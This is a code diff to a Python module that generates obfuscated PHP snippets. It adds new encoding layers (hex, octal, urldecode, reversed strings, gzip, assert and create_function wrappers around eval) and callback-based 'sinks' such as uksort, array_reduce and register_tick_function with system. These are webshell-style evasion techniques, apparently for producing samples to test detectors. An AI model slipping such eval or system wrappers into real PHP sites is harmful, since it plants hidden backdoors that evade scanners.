@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import gzip
 import zlib
 from collections.abc import Callable, Iterator
 from itertools import cycle
@@ -122,12 +123,25 @@ SYNTAX_TRANSFORMS = ("none", "comments", "case")
 # the whole body encoded and evaluated
 LAYERS = {
     "b64": lambda body: f"{EVAL}({B64D}('{base64.b64encode(body).decode()}'));",
-    "rot13": lambda body: f"{EVAL}({ROT}('{codecs.encode(body.decode(), 'rot13')}'));",
+    "rot13": lambda body: f"{EVAL}({ROT}('{_sq(codecs.encode(body.decode(), 'rot13'))}'));",
     "gzinflate": lambda body: f"{EVAL}({GZI}({B64D}('{base64.b64encode(_deflate(body)).decode()}')));",
     "gzuncompress": lambda body: f"{EVAL}({GZU}({B64D}('{base64.b64encode(zlib.compress(body)).decode()}')));",
     "layered": lambda body: LAYERS["gzinflate"](LAYERS["rot13"](LAYERS["b64"](body).encode()).encode()),
     "b64var": lambda body: f"$c = {B64D}('{base64.b64encode(body).decode()}');\n@{EVAL}($c);",
+    "hexcode": lambda body: f'@{EVAL}("' + "".join(f"\\x{b:02x}" for b in body) + '");',
+    "octcode": lambda body: f'@{EVAL}("' + "".join(f"\\{b:o}" for b in body) + '");',
+    "hex2bin": lambda body: f"@{EVAL}(hex2bin('{body.hex()}'));",
+    "urldecode": lambda body: f"@{EVAL}(urldecode('" + "".join(f"%{b:02X}" for b in body) + "'));",
+    "strrev": lambda body: f"@{EVAL}(strrev('{_sq(body.decode()[::-1])}'));",
+    "gzdecode": lambda body: f"@{EVAL}(gzdecode({B64D}('{base64.b64encode(gzip.compress(body)).decode()}')));",
+    "assert-b64": lambda body: f"@{ASSERT}({B64D}('{base64.b64encode(body).decode()}'));",
+    "cf-b64": lambda body: f"$f = {CF}('', {B64D}('{base64.b64encode(body).decode()}'));\n$f();",
 }
+
+
+def _sq(text: str) -> str:
+    """A PHP single-quoted literal's content."""
+    return text.replace("\\", "\\\\").replace("'", "\\'")
 
 
 def _deflate(data: bytes) -> bytes:
@@ -242,6 +256,16 @@ SINKS: dict[str, tuple[str, SinkMaker]] = {
     "uasort": ("code", _callback(lambda ref, e: f"$arr = array({e}, '1');\nuasort($arr, {ref});", ASSERT)),
     "array_walk": ("code", _callback(lambda ref, e: f"$arr = array({e});\narray_walk($arr, {ref});", ASSERT)),
     "array_udiff": ("code", _callback(lambda ref, e: f"array_udiff(array({e}), array('1'), {ref});", ASSERT)),
+    "array_intersect_ukey": (
+        "code",
+        _callback(lambda ref, e: f"array_intersect_ukey(array({e} => 1), array('1' => 1), {ref});", ASSERT),
+    ),
+    "uksort": ("code", _callback(lambda ref, e: f"$arr = array({e} => 1, '1' => 2);\nuksort($arr, {ref});", ASSERT)),
+    "array_reduce": ("code", _callback(lambda ref, e: f"array_reduce(array(1), {ref}, {e});", ASSERT)),
+    "register_tick_function": (
+        "cmd",
+        _callback(lambda ref, e: f"declare(ticks=1);\nregister_tick_function({ref}, {e});", SYSTEM),
+    ),
     "array_uintersect": (
         "code",
         _callback(lambda ref, e: f"array_uintersect(array({e}), array('1'), {ref});", ASSERT),
